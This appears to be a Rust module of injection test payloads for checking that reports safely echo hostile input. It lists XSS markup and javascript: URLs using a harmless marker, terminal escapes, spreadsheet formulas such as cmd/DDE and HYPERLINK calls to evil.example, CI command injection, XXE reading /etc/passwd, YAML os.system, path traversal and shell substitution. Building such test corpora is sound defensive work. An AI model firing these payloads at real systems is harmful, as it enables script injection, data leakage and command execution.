//! What a page may say in the hope that a report repeats it: for browsers, terminals, spreadsheets, pipelines and readers.
//!
//! Each payload for a browser leaves a mark on the document when it runs ([`MARK`]), and nothing else.

/// What a payload that runs leaves behind. Payloads write it without spelling it, so that text is no mark.
pub const MARK: &str = "data-overrun";

/// What runs.
const RUN: &str = "document.documentElement.setAttribute('data-'+'overrun','1')";

/// Markup around what runs; `@` is the place.
const MARKUP: &[&str] = &[
    "<script>@</script>",
    "<SCRIPT>@</SCRIPT >",
    "<script/x>@</script\n>",
    "<scr<script>ipt>@</scr</script>ipt>",
    "<img src=x onerror=\"@\">",
    "<img src=x onerror=@//",
    "<img/src=x/onerror=\"@\">",
    "<svg onload=\"@\">",
    "<svg/onload=\"@\"/>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=\"@\" attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=@&gt;\">",
    "<body onload=\"@\">",
    "<iframe srcdoc=\"<script>parent.@</script>\"></iframe>",
    "<iframe src=\"javascript:parent.@\"></iframe>",
    "<object data=\"javascript:@\"></object>",
    "<embed src=\"javascript:@\">",
    "<details open ontoggle=\"@\">",
    "<input autofocus onfocus=\"@\">",
    "<select autofocus onfocus=\"@\">",
    "<textarea autofocus onfocus=\"@\">",
    "<video><source onerror=\"@\"></video>",
    "<audio src=x onerror=\"@\">",
    "<marquee onstart=\"@\">",
    "<style>@import 'javascript:@'</style>",
    "<link rel=stylesheet href=x onerror=\"@\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
    "<base href=\"javascript:@//\">",
    "<a href=\"javascript:@\" autofocus>x</a>",
    "<form action=\"javascript:@\"><button autofocus>x</form>",
    "<template><script>@</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
    "<!--><script>@</script>-->",
    "<![CDATA[<script>@</script>]]>",
    "<?xml version='1.0'?><script>@</script>",
    "<x onpointerrawupdate=\"@\" style=\"position:fixed;inset:0\">",
    "<xss onanimationstart=\"@\" style=\"animation:x 1s\">",
    "<plaintext><script>@</script>",
    "<custom-element is=x onfocus=\"@\" tabindex=1 autofocus>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=\"@\">",
];

/// What gets out of where text is put: attributes, scripts, comments, styles, titles.
const WAYS_OUT: &[&str] = &["", "\">", "'>", "</script>", "</style></title></textarea>", "-->"];

/// Addresses that run.
const ADDRESSES: &[&str] = &[
    "javascript:@",
    "JaVaScRiPt:@",
    "java\nscript:@",
    " javascript:@",
    "\u{1}javascript:@",
    "javascript&colon;@",
    "&#106;avascript:@",
    "data:text/html,<script>parent.@</script>",
    "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "vbscript:@",
    "javascript://%0a@",
    "//evil.example/\"onmouseover=\"@",
];

/// What terminals obey, or what hides from a reader's eyes.
const TERMINAL: &[&str] = &[
    "\u{1b}[31mred",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJm\u{7}",
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{9b}31m",
    "\u{9d}0;title\u{9c}",
    "\u{8}\u{8}\u{8}\u{8}over",
    "line\rover",
    "bell\u{7}",
    "\u{1b}[?1049h",
    "\u{1b}c",
    "\u{202e}fdp.exe",
    "\u{2066}\u{202d}turned\u{2069}",
    "\u{200f}right\u{200e}left",
    "zero\u{200b}\u{200c}\u{200d}width",
    "\u{feff}mark",
    "tag\u{e0041}\u{e0042}",
    "a\u{0}b",
    "\u{85}next\u{2028}line\u{2029}",
];

/// What a spreadsheet takes for a formula.
const SHEETS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\"=1+1",
    "a,b\n=1+1,c",
    "'=1+1",
    "%0A=1+1",
    ";=1+1",
    "|=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
];

/// What pipelines, chat rooms, issue trackers and parsers obey.
const MACHINES: &[&str] = &[
    "::error file=x::injected",
    "\n::set-output name=x::y",
    "%0A::add-mask::x",
    "\r\n::stop-commands::x",
    "##[error]injected",
    "##vso[task.setvariable variable=x]y",
    "]]><injected/><![CDATA[",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "&y;",
    "\u{b}\u{c}\u{fffe}\u{ffff}",
    "@everyone @octocat",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "`code` ``code``",
    "| cell | cell |\n| --- | --- |",
    "</details><h1>Mine</h1>",
    "#1 GH-1 owner/repo#1",
    "- [ ] task\n# Heading",
    "key: value\n- item: !!python/object/apply:os.system ['x']",
    "*alias &anchor !tag",
    "\"}],\"injected\":[{\"a\":\"",
    "\\u003cscript\\u003e \\\"",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "$(touch x) `touch x` ; touch x",
    "%s%s%n %d",
    "{} {0} {name}",
    "\u{d7ff}\u{e000}\u{10ffff}",
    "a\r\nSet-Cookie: x=y",
    "git@evil.example:x.git\n-oProxyCommand=x",
    "https://user:password@www.agency.example/",
];

/// All payloads, each once.
pub fn all() -> Vec<String> {
    let with = |place: &&str| place.replace('@', RUN);
    let mut all: Vec<String> = MARKUP
        .iter()
        .enumerate()
        .flat_map(|(at, markup)| {
            // Each markup alone, and behind two ways out of where it is put.
            let ways = [WAYS_OUT[0], WAYS_OUT[1 + at % 5], WAYS_OUT[1 + (at + 2) % 5]];
            ways.map(|way| format!("{way}{}", with(markup)))
        })
        .collect();
    all.extend(ADDRESSES.iter().map(with));
    for words in [TERMINAL, SHEETS, MACHINES] {
        all.extend(words.iter().map(ToString::to_string));
    }
    all
}

/// Only those that a browser could run.
pub fn running() -> Vec<String> {
    all().into_iter().filter(|payload| payload.contains(RUN)).collect()
}
